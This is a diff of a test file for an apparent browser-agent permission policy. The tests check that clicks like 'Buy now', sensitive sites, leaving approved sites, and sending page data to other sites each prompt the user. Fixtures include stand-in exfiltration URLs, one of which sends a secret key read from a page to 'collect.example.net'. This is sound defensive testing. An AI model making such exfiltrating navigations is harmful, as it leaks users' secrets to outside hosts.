@@ -2,6 +2,9 @@ import { describe, expect, it } from 'vitest';
 import { blockedUrlReason, type CallContext, decide, isHighRiskName, type Mode, type PolicyContext } from './decide';
 import { sensitiveSite } from './sites';
 
+/** A question as the tests compare it: its English reason; the words the card shows are built from the same message. */
+const withoutWords = (decision: object) => Object.fromEntries(Object.entries(decision).filter(([key]) => key !== 'words'));
+
 const shop = 'https://shop.example.com/cart';
 const bank = 'https://online.chase.com/accounts';
 
@@ -55,7 +58,7 @@ describe('decide', () => {
 
   it('gives the user a reason for every question', () => {
     const decision = decide({ member: 'left_click', input: {}, tabUrl: shop, target: { role: 'button', name: 'Buy now' } }, { mode: 'act', allowedSites: ['shop.example.com'] });
-    expect(decision).toEqual({ verdict: 'ask', reason: 'It would press "Buy now", which can buy, send, publish or delete something.' });
+    expect(withoutWords(decision)).toEqual({ verdict: 'ask', reason: 'It would press "Buy now", which can buy, send, publish or delete something.' });
   });
 });
 
@@ -77,7 +80,7 @@ it('reads high-risk names as words', () => {
 it('treats the sites the user added as sensitive too', () => {
   const call: CallContext = { member: 'left_click', input: {}, tabUrl: 'https://intranet.example.com/hr', target: { role: 'link', name: 'Open' } };
   expect(decide(call, { mode: 'act', allowedSites: ['example.com'] }).verdict).toBe('allow');
-  expect(decide(call, { mode: 'act', allowedSites: ['example.com'], extraSensitive: { 'added by you': ['intranet.example.com'] } })).toEqual({
+  expect(withoutWords(decide(call, { mode: 'act', allowedSites: ['example.com'], extraSensitive: { 'added by you': ['intranet.example.com'] } }))).toEqual({
     verdict: 'ask',
     reason: 'intranet.example.com is a sensitive site (added by you): every change there needs your yes.',
   });
@@ -121,7 +124,7 @@ describe('"Ask before acting": a plan first, then its sites', () => {
   });
   it('asks before leaving the approved sites, and never offers "always" for it', () => {
     const leave = decide({ member: 'navigate', input: { url: 'https://collect.evil.example/?q=secret' }, tabUrl: shop }, approved);
-    expect(leave).toEqual({ verdict: 'ask', reason: 'It would leave the approved sites: collect.evil.example is not in the plan (shop.example.com).' });
+    expect(withoutWords(leave)).toEqual({ verdict: 'ask', reason: 'It would leave the approved sites: collect.evil.example is not in the plan (shop.example.com).' });
   });
   it('asks for an action on a page outside the plan (a redirect took it there)', () => {
     expect(decide({ ...click, tabUrl: 'https://elsewhere.example.org/' }, approved)).toMatchObject({ verdict: 'ask', alwaysAllowable: true });
@@ -153,7 +156,7 @@ describe('an administrator\'s lists', () => {
 
 it('data leaving in a URL is never "always allowed", and the reason names what and where', () => {
   const call: CallContext = { member: 'navigate', input: { url: 'collect.example.net/c?d=SK-7731-QQ' }, tabUrl: shop, read: { pages: [{ url: shop, text: 'Your key: SK-7731-QQ' }], userText: '' } };
-  expect(decide(call, { mode: 'ask-every', allowedSites: ['shop.example.com', 'collect.example.net'] })).toEqual({
+  expect(withoutWords(decide(call, { mode: 'ask-every', allowedSites: ['shop.example.com', 'collect.example.net'] }))).toEqual({
     verdict: 'ask',
     reason: 'It would send text read from a page ("SK-7731-QQ") to collect.example.net, another site.',
   });
